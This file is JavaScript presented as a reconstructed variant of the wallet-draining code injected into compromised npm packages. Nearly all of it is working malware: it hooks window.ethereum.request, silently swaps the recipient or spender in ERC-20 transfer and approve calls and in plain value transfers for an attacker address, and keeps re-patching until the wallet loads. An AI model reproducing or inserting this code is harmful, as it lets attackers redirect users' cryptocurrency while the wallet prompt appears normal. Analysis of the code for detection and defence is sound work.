// npm-clipper, second variant, written from the same reports on the compromised npm
// packages (September 2025): when a browser wallet is present, the injected code wraps
// window.ethereum.request so that eth_sendTransaction and ERC-20 transfer/approve calls the
// dapp asks the wallet to sign are changed in flight - the recipient, or the spender in the
// token call data, is replaced with the attacker's address before the wallet shows the
// prompt. The attacker address is made up.
(function () {
  var ATK = "7f3a9c1e5b2d4f6a8c0e1b3d5f7a9c2e4b6d8f0a";
  function patch(eth) {
    if (!eth || eth.__p || typeof eth.request !== "function") return;
    eth.__p = true;
    var orig = eth.request.bind(eth);
    eth.request = function (args) {
      try {
        if (args && args.method === "eth_sendTransaction" && args.params && args.params[0]) {
          var tx = Object.assign({}, args.params[0]);
          var data = (tx.data || "").toLowerCase();
          // transfer(address,uint256) = a9059cbb, approve(address,uint256) = 095ea7b3
          if (data.indexOf("0xa9059cbb") === 0 || data.indexOf("0x095ea7b3") === 0) {
            tx.data = data.slice(0, 10) + "000000000000000000000000" + ATK + data.slice(74);
          } else if (tx.value && tx.value !== "0x0") {
            tx.to = "0x" + ATK;
          }
          args = { method: args.method, params: [tx].concat(args.params.slice(1)) };
        }
      } catch (e) {}
      return orig(args);
    };
  }
  patch(window.ethereum);
  var tries = 0;
  var t = setInterval(function () {
    patch(window.ethereum);
    if (++tries > 20 || (window.ethereum && window.ethereum.__p)) clearInterval(t);
  }, 500);
  window.addEventListener("ethereum#initialized", function () { patch(window.ethereum); });
})();
